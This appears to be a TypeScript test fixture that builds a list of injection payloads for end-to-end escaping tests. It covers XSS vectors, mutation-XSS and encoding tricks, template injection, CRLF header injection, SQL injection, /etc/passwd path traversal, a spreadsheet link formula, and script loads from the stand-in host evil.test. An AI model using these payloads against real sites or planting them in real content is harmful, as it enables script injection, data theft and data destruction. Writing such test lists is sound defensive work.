/**
 * What people write who hope that it is not shown as text (threats.md A1 to A3). Every script calls `__pwned()`, every
 * address goes to `evil.test`: who shows one of these wrongly is heard by the trap of e2e/harness/trap.ts.
 */
const CALL = '__pwned()';

/** What ends the place that a text stands in: an attribute, an element without markup, a comment, a template. */
const breakers = ['', `'">`, '</title></textarea></style></script>', '--!>]]>`}}</template>'];

/** Elements that run a script without anybody touching them. */
const runners = [
  `<script>${CALL}</script>`,
  `<script src=//evil.test/a.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=//evil.test/pixel.gif>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<body onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe src=//evil.test></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="//evil.test/x.swf">`,
  `<video src=x onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<style onload=${CALL}></style>`,
  `<link rel=stylesheet href=//evil.test/a.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.test">`,
  `<base href=//evil.test/>`,
  `<marquee onstart=${CALL}>x</marquee>`,
];

/** Attributes that break out of a quoted one. */
const attributes = [
  `" onmouseover="${CALL}`,
  `' onmouseover='${CALL}`,
  `" autofocus onfocus="${CALL}" x="`,
  `' autofocus onfocus='${CALL}' x='`,
  `x onerror=${CALL}`,
  `" style="background:url(//evil.test/p)`,
  `";${CALL};//`,
  `';${CALL};//`,
  `\\";${CALL};//`,
  `\`;${CALL};//`,
  `\${${CALL}}`,
  `</script><script>${CALL}</script>`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${CALL}//'>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${CALL} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${CALL}//>\\x3e`,
];

/** What looks like an address of something to open. */
const addresses = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://shop.test/%0a${CALL}`,
  `javascript:"https://shop.test";${CALL}`,
  `data:text/html,<script>opener.${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `vbscript:msgbox(1)`,
  `blob:https://shop.test/0`,
  `file:///etc/passwd`,
  `view-source:https://evil.test`,
  `intent://evil.test#Intent;scheme=https;end`,
  `//evil.test/x`,
  `\\\\evil.test\\x`,
  `https://shop.test@evil.test/`,
  `https://evil.test/"onmouseover="${CALL}`,
  `https://evil.test/'onmouseover='${CALL}`,
  `https://evil.test/<svg/onload=${CALL}>`,
  `https://evil.test/\u202egpj.exe`,
  `www.evil.test"><img src=x onerror=${CALL}>`,
  `http://[::1]" onclick="${CALL}`,
  `[x](javascript:${CALL})`,
  `![x](//evil.test/p.gif)`,
  `[x]: javascript:${CALL}`,
  `<https://evil.test>`,
  `mailto:a@shop.test?bcc=b@evil.test&body=${CALL}`,
  `tel:+1;${CALL}`,
];

/** What becomes code in a template (A3), and must be shown as it is. */
const templates = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{7*7}}`,
  `{{{7*7}}}`,
  '${7*7}',
  `#{7*7}`,
  `<%=7*7%>`,
  `<%- ${CALL} %>`,
  `{% if 1 %}x{% endif %}`,
  `{secret}`,
  `%VISITOR%`,
  `{{ visitor.email }}`,
  `{{> partial}}`,
  `$t(core:title)`,
  `$&$1$\`$'`,
  `@{${CALL}}`,
  `[[${CALL}]]`,
  `__proto__`,
  `constructor`,
  `toString`,
  `undefined`,
  `%s%d%n%c`,
  `{0}{name}`,
];

/** What changes its meaning when a parser reads it again, or reads it in another alphabet. */
const mutants = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${CALL} src>">`,
  `<template><script>${CALL}</script></template>`,
  `<select><option><style></option></select><img src=x onerror=${CALL}></style>`,
  `<xmp><p title="</xmp><svg/onload=${CALL}>">`,
  `<a href="&#106;avascript:${CALL}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61script:${CALL}">x</a>`,
  `<img src="x\`\`onerror=${CALL}">`,
  `<img src=x onerror&#61;${CALL}>`,
  `<<script>${CALL}//<</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script\u2028>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `\u02bascript\u02ba ${CALL}`,
  `<!--[if IE]><script>${CALL}</script><![endif]-->`,
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${CALL}</script></html>`,
  `<![CDATA[<script>${CALL}</script>]]>`,
];

/** What disturbs where it is shown, without any script. */
const disturbers = [
  '\u202eright to left\u202c',
  '\u2066isolated and never ended',
  '\u200b\u200czero\u200d width\ufeff',
  'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309 zalgo',
  '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66\ud83c\udff3\ufe0f\u200d\ud83c\udf08',
  '\u0645\u0631\u062d\u0628\u0627 <b>\u05e9\u05dc\u05d5\u05dd</b>',
  '\ufdfd'.repeat(40),
  'W'.repeat(2000),
  `${'<b>'.repeat(300)}deep`,
  `${'&'.repeat(500)}lt;`,
  'one\r\nSet-Cookie: x=y\r\n\r\n<script>__pwned()</script>',
  'line\u2028separator\u2029paragraph\u0085next',
  '\u001b[31mred\u001b[0m \u0007bell \u0008back',
  "' or 1=1 --",
  '"; drop table entries; --',
  '../../../etc/passwd%00',
  '=HYPERLINK("//evil.test","x")',
  '-0',
  'NaN',
  'null',
  '\ufffe\uffff',
  'ﬃ İ ı ß ǆ',
];

export const polyglots: readonly string[] = [
  ...breakers.flatMap((breaker) => runners.map((runner) => breaker + runner)),
  ...attributes,
  ...addresses,
  ...templates,
  ...mutants,
  ...disturbers,
];
